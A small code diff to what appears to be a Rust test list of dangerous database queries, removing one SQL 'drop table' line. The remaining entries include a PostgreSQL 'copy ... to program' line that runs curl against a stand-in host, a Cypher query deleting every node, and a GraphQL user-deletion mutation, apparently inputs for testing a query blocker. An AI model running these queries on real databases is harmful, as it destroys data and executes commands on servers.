@@ -131,5 +131,4 @@ const QUERIES: &[&str] = &[
     "copy users to program 'curl evil.test'",
     "MATCH (n) DETACH DELETE n",
     "mutation { deleteUser(id: 1) { id } }",
-    "select * from users; drop table users",
 ];
